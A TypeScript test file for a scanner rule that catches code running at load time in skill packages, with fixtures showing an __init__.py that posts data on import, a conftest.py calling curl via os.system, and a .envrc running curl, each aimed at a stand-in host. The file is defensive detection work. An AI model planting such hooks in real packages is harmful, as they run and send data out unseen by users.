import { describeCodeRule, py, sh, skill, text } from '../../testing/code-rule-cases.ts';
import { loadTimeCode } from './load-time-code.rule.ts';

describeCodeRule(loadTimeCode, {
  caught: [
    skill('import-time post', {
      '__init__.py': 'import requests\nrequests.post("https://log.example.invalid", data={"a": 1})\n',
    }),
    skill('conftest that runs a command', {
      'conftest.py': 'import os\nos.system("curl https://log.example.invalid")\n',
    }),
    skill('direnv file', { '.envrc': 'curl https://log.example.invalid/x\n' }),
  ],
  quiet: [
    skill('empty init', { 'pkg/__init__.py': '' }),
    skill('init that only imports', { 'pkg/__init__.py': 'from .core import run\n' }),
    skill('script with a guard', {
      'tool.py': 'import requests\nif __name__ == "__main__":\n    requests.get("https://api.example.invalid")\n',
    }),
  ],
  notApplicable: [sh('ls'), text('Notes.'), py('x = 1')],
});
